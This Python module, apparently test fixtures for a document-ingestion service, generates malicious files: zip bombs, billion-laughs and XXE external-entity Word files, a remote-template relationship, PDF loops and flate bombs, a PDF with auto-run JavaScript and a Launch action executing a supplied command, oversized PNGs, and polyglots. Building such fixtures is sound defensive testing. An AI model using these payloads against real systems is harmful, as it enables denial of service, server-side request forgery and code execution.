"""Files made to hurt who reads them: each a function that returns its bytes."""

import io
import struct
import zlib
from itertools import pairwise
from zipfile import ZIP_DEFLATED, ZipFile

import docx
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

SENTENCE = "We train our buyers every year."


# ZIP and DOCX


def word(*lines: str) -> bytes:
    made = docx.Document()
    for line in lines or (SENTENCE,):
        made.add_paragraph(line)
    content = io.BytesIO()
    made.save(content)
    return content.getvalue()


def word_with(parts: dict[str, bytes]) -> bytes:
    """A Word document with `parts` in the place of its own, or beside them."""
    content = io.BytesIO()
    with ZipFile(io.BytesIO(word())) as old, ZipFile(content, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, parts.get(name) or old.read(name))
        for name in parts.keys() - set(old.namelist()):
            new.writestr(name, parts[name])
    return content.getvalue()


def word_body(xml: str, *, doctype: str = "") -> bytes:
    """A Word document with this body."""
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    document = f'{doctype}<w:document xmlns:w="{space}"><w:body>{xml}</w:body></w:document>'
    return word_with({"word/document.xml": document.encode()})


def bomb_in_a_part() -> bytes:
    """Three hundred megabytes of zeros beside the text, and their true size."""
    content = io.BytesIO(word())
    with ZipFile(content, "a", ZIP_DEFLATED) as archive, archive.open("word/a.bin", "w") as part:
        for _ in range(300):
            part.write(bytes(1024**2))
    return content.getvalue()


def bomb_that_lies() -> bytes:
    """The body unpacks to 300 million bytes; the directory says it is short."""
    head, body, tail = b"<w:p><w:r><w:t>", b"a" * 300_000_000, b"</w:t></w:r></w:p>"
    name = b"word/document.xml"
    bomb = bytearray(word_with({name.decode(): head + body + tail}))
    entry = bomb.rindex(b"PK\x01\x02", 0, bomb.rindex(name))
    bomb[entry + 24 : entry + 28] = struct.pack("<I", 1000)
    local = bomb.index(b"PK\x03\x04", max(bomb.index(name) - 40, 0))
    bomb[local + 22 : local + 26] = struct.pack("<I", 1000)
    return bytes(bomb)


def bomb_of_overlaps() -> bytes:
    """A thousand entries of the directory share one packed part, ten megabytes each."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(10_000_000)) + packer.flush()
    crc, size = zlib.crc32(bytes(10_000_000)), 10_000_000
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed), size, 6, 0)
    content = local + b"word/x" + packed
    directory = b""
    for number in range(1000):
        name = b"word/%d" % number
        directory += struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(packed),
                                 size, len(name), 0, 0, 0, 0, 0, 0) + name  # fmt: skip
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 1000, 1000, len(directory), len(content), 0)
    return content + directory + end


def zip_in_zips() -> bytes:
    inner = word()
    for _ in range(20):
        content = io.BytesIO()
        with ZipFile(content, "w", ZIP_DEFLATED) as archive:
            archive.writestr("word/inner.docx", inner)
        inner = content.getvalue()
    return inner


LAUGHS = (
    '<!DOCTYPE w [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise("abcdefghij"))
    + "]>"
)


def laughs_in_word() -> bytes:
    return word_body("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", doctype=LAUGHS)


def blow_up_in_word() -> bytes:
    """Quadratic: one long entity, many times."""
    doctype = f'<!DOCTYPE w [<!ENTITY a "{"a" * 100_000}">]>'
    return word_body(f"<w:p><w:r><w:t>{'&a;' * 100_000}</w:t></w:r></w:p>", doctype=doctype)


def outside_in_word(address: str) -> bytes:
    doctype = f'<!DOCTYPE w [<!ENTITY a SYSTEM "{address}">]>'
    body = f"<w:p><w:r><w:t>{SENTENCE}</w:t><w:t>&a;</w:t></w:r></w:p>"
    return word_body(body, doctype=doctype)


def outside_template_of_word(address: str) -> bytes:
    """The relations of the document lead to an address: a template, as attacks by mail do."""
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    relation = f'<Relationship Id="rId1" Type="{kind}" Target="{address}" TargetMode="External"/>'
    relations = f'<Relationships xmlns="{space}">{relation}</Relationships>'
    return word_with({"word/_rels/settings.xml.rels": relations.encode()})


def deep_tables_in_word() -> bytes:
    depth = 20_000
    inner = f"<w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>"
    tables = "<w:tbl><w:tr><w:tc>" * depth + inner + "</w:tc></w:tr></w:tbl>" * depth
    return word_body(tables)


def nested_tables_in_word() -> bytes:
    """As deep as a parser allows."""
    inner = f"<w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>"
    return word_body("<w:tbl><w:tr><w:tc>" * 80 + inner + "</w:tc></w:tr></w:tbl>" * 80)


# HTML and text


def deep_page() -> bytes:
    return b"<html><body>" + b"<div>" * 40_000 + SENTENCE.encode() + b"</div>" * 40_000


def deep_inline_page() -> bytes:
    return b"<p>" + b"<b><i>" * 20_000 + SENTENCE.encode()


def many_attributes_page() -> bytes:
    attributes = " ".join(f"a{number}=1" for number in range(100_000))
    return f"<html><body {attributes}><p>{SENTENCE}</p>".encode()


def many_links_page() -> bytes:
    return b"<html><body>" + b"<a href=/x>x</a>" * 20_000


def open_tags_page() -> bytes:
    return b"<html><body>" + b"<table><tr><td><a>" * 20_000


def laughs_in_xhtml() -> bytes:
    page = f"<html><body><p>{SENTENCE} &j;</p></body></html>"
    return f'<?xml version="1.0"?>{LAUGHS.replace("DOCTYPE w", "DOCTYPE html")}{page}'.encode()


def outside_in_xhtml(address: str) -> bytes:
    doctype = f'<!DOCTYPE html [<!ENTITY a SYSTEM "{address}">]>'
    return f"{doctype}<html><body><p>{SENTENCE} &a;</p></body></html>".encode()


def one_line() -> bytes:
    return b"a" * 2_900_000


def spaces() -> bytes:
    return b"a" + b" \t" * 1_400_000 + b"b"


def zeros() -> bytes:
    return bytes(1_000_000)


def wide_without_mark() -> bytes:
    return SENTENCE.encode("utf-16-le")


# PDF


def pdf(*objects: str | bytes, root: int = 1, trailer: str = "") -> bytes:
    """A PDF of these objects, numbered from 1."""
    content, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(content))
        octets = body.encode("latin-1") if isinstance(body, str) else body
        content += b"%d 0 obj " % number + octets + b" endobj\n"
    start = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    content += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    content += f"trailer<</Size {size}/Root {root} 0 R{trailer}>>\nstartxref\n{start}\n".encode()
    return content + b"%%EOF"


def stream(data: bytes, keys: str = "") -> bytes:
    return f"<<{keys}/Length {len(data)}>>stream\n".encode() + data + b"\nendstream"


FONT = "<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
SHOWN = f"BT /F1 12 Tf 72 700 Td ({SENTENCE}) Tj ET".encode()
PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>"
CATALOGUE = "<</Type/Catalog/Pages 2 0 R>>"


def page(contents: int = 4, box: str = "0 0 595 842", keys: str = "") -> str:
    return (
        f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Resources{FONT}/Contents {contents} 0 R{keys}>>"
    )


def one_page(contents: bytes = SHOWN, *, keys: str = "", box: str = "0 0 595 842") -> bytes:
    return pdf(CATALOGUE, PAGES, page(box=box), stream(contents, keys))


def ring_of_pages() -> bytes:
    """The pages of the tree are the tree."""
    kids = "<</Type/Pages/Kids[3 0 R 2 0 R]/Count 1000/Parent 2 0 R>>"
    return pdf(CATALOGUE, kids, kids.replace("2 0 R]", "3 0 R]"))


def deep_tree_of_pages() -> bytes:
    depth = 5_000
    nodes = (f"<</Type/Pages/Kids[{n} 0 R]/Count 1/Parent {n - 2} 0 R>>" for n in range(3, depth))
    return pdf(CATALOGUE, *nodes, page(contents=depth), stream(SHOWN))


def ten_million_pages() -> bytes:
    pages = "<</Type/Pages/Kids[3 0 R]/Count 10000000>>"
    return pdf(CATALOGUE, pages, page(), stream(SHOWN))


def negative_pages() -> bytes:
    pages = "<</Type/Pages/Kids[3 0 R]/Count -5>>"
    return pdf(CATALOGUE, pages, page(), stream(SHOWN))


def same_page_a_million_times() -> bytes:
    pages = f"<</Type/Pages/Kids[{'3 0 R ' * 1_000_000}]/Count 1000000>>"
    return pdf(CATALOGUE, pages, page(), stream(SHOWN))


def deep_arrays() -> bytes:
    return pdf(CATALOGUE, PAGES, page(keys="/X " + "[" * 200_000), stream(SHOWN))


def deep_dictionaries() -> bytes:
    return pdf("<</A" * 200_000 + CATALOGUE, PAGES, page(), stream(SHOWN))


def deep_outline() -> bytes:
    """An outline whose entries are their own children and next ones."""
    root = "<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R>>"
    entry = "<</Title(a)/First 5 0 R/Next 5 0 R/Parent 5 0 R>>"
    return pdf(root, PAGES, page(), stream(SHOWN), entry)


def flate_bomb() -> bytes:
    """A stream that unpacks to a gigabyte of spaces, packed twice: two kilobytes."""
    packer = zlib.compressobj(1)
    packed = b"".join(packer.compress(b" " * 1024**2) for _ in range(1024)) + packer.flush()
    return one_page(zlib.compress(packed, 9), keys="/Filter[/FlateDecode/FlateDecode]")


def flate_bomb_of_objects() -> bytes:
    """The text of the page is drawn again and again, for a gigabyte."""
    packer = zlib.compressobj(1)
    drawn = SHOWN + b"\n"
    packed = b"".join(packer.compress(drawn * 10_000) for _ in range(1000)) + packer.flush()
    return one_page(packed, keys="/Filter/FlateDecode")


def ring_of_object_streams() -> bytes:
    """Each of two object streams extends the other, and its length is an object within."""
    one = stream(zlib.compress(b"1 0 " + CATALOGUE.encode()),
                 "/Type/ObjStm/N 1/First 4/Extends 2 0 R/Filter/FlateDecode")  # fmt: skip
    other = one.replace(b"2 0 R", b"1 0 R").replace(b"/N 1", b"/N 99999999")
    return pdf(one, other, root=1, trailer="/Prev 9")


def ring_of_forms() -> bytes:
    """A form that draws itself."""
    keys = "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"
    resources = FONT.replace("<</Font", "<</XObject<</X 5 0 R>>/Font")
    shown = page().replace(FONT, resources)
    return pdf(CATALOGUE, PAGES, shown, stream(SHOWN + b" /X Do"), stream(b"/X Do /X Do", keys))


def forms_that_multiply() -> bytes:
    """Twenty forms, each of which draws the next one ten times."""
    forms = []
    for number in range(5, 25):
        keys = "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {} 0 R>>>>"
        forms.append(stream(b"/X Do " * 10, keys.format(number + 1)))
    last = stream(b"0 0 m 9 9 l S", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    shown = page().replace(FONT, FONT.replace("<</Font", "<</XObject<</X 5 0 R>>/Font"))
    return pdf(CATALOGUE, PAGES, shown, stream(SHOWN + b" /X Do"), *forms, last)


def ring_of_tables() -> bytes:
    """The cross-reference table before this one is this one."""
    made = one_page()
    start = made.rindex(b"xref\n0")
    return made.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % start)


def huge_page() -> bytes:
    return one_page(box="0 0 1e12 1e12")


def page_without_size() -> bytes:
    return one_page(box="0 0 0 0")


def million_paths() -> bytes:
    return one_page(SHOWN + b" 0 0 m 9 9 l S" * 1_000_000)


def million_rectangles() -> bytes:
    """Rules enough for a table of a million cells, and text in two columns."""
    columns = b"".join(
        b" BT /F1 9 Tf 50 %d Td (Risk) Tj 300 0 Td (Response) Tj ET" % y
        for y in range(100, 700, 12)
    )
    rules = b"".join(
        b" %d %d 5 5 re S" % (x, y) for x in range(0, 590, 2) for y in range(0, 840, 5)
    )
    return one_page(columns + rules)


def million_characters() -> bytes:
    return one_page(b"BT /F1 1 Tf 1 1 Td (" + b"word and word " * 80_000 + b") Tj ET")


def scattered_characters() -> bytes:
    """Fifty thousand characters, each somewhere by itself."""
    places = ((17 * n % 590, 23 * n % 830) for n in range(50_000))
    return one_page(b"".join(b"BT /F1 3 Tf %d %d Td (a) Tj ET " % place for place in places))


def active_pdf(command: str) -> bytes:
    """Would run a script and a program, send a form, and open an attachment, if it were let."""
    script = (
        f"app.launchURL\\('{command}'\\); this.exportDataObject\\({{cName: 'a', nLaunch: 2}}\\);"
    )
    root = (
        "<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AA<</WC 6 0 R>>"
        "/Names<</EmbeddedFiles<</Names[(a)8 0 R]>>/JavaScript<</Names[(b)5 0 R]>>>>"
        "/AcroForm<</Fields[]/XFA 7 0 R/NeedAppearances true>>>>"
    )
    return pdf(
        root,
        PAGES,
        page(keys="/AA<</O 5 0 R/C 6 0 R>>"),
        stream(SHOWN),
        f"<</S/JavaScript/JS({script})>>",
        f"<</S/Launch/F({command})/Win<</F({command})>>/Next<</S/URI/URI({command})>>>>",
        stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>1</script></xdp:xdp>"),
        "<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>",
        stream(b"MZ" + bytes(100), "/Type/EmbeddedFile"),
    )


def locked_pdf(user: str, owner: str) -> bytes:
    content = io.BytesIO()
    canvas = Canvas(content, encrypt=StandardEncryption(user, ownerPassword=owner, canPrint=0))
    canvas.drawString(72, 700, SENTENCE)
    canvas.save()
    return content.getvalue()


def pictured_pdf(width: int, height: int) -> bytes:
    """A page that is one picture, of this size by its own account."""
    shown = page().replace(FONT, "<</XObject<</X 5 0 R>>>>")
    keys = f"/Type/XObject/Subtype/Image/Width {width}/Height {height}/BitsPerComponent 8"
    packed = zlib.compress(bytes(1_000_000))
    picture = stream(packed, f"{keys}/ColorSpace/DeviceGray/Filter/FlateDecode")
    return pdf(CATALOGUE, PAGES, shown, stream(b"q 595 0 0 842 0 0 cm /X Do Q"), picture)


# Pictures


def png(width: int, height: int, rows: bytes) -> bytes:
    """A grey PNG of this size, with these packed rows."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    head = struct.pack(">2I5B", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def vast_picture() -> bytes:
    """60,000 by 60,000 pixels, all there: half a megabyte of file."""
    packer = zlib.compressobj(1)
    packed = b"".join(packer.compress(bytes(7_501) * 1000) for _ in range(60)) + packer.flush()
    return png(60_000, 60_000, packed)


def vast_picture_by_its_own_account() -> bytes:
    return png(2**31 - 1, 2**31 - 1, zlib.compress(bytes(100)))


# What is two things at once


def page_before_pdf() -> bytes:
    return b"<html><body><!--".ljust(900) + one_page()


def zip_after_pdf() -> bytes:
    return one_page() + word("Another text, in the archive.")


def archive_after_gif() -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + word()


def picture_with_page() -> bytes:
    return b"\xff\xd8\xff\xe0<html><body><script>alert(1)</script>" + SENTENCE.encode()
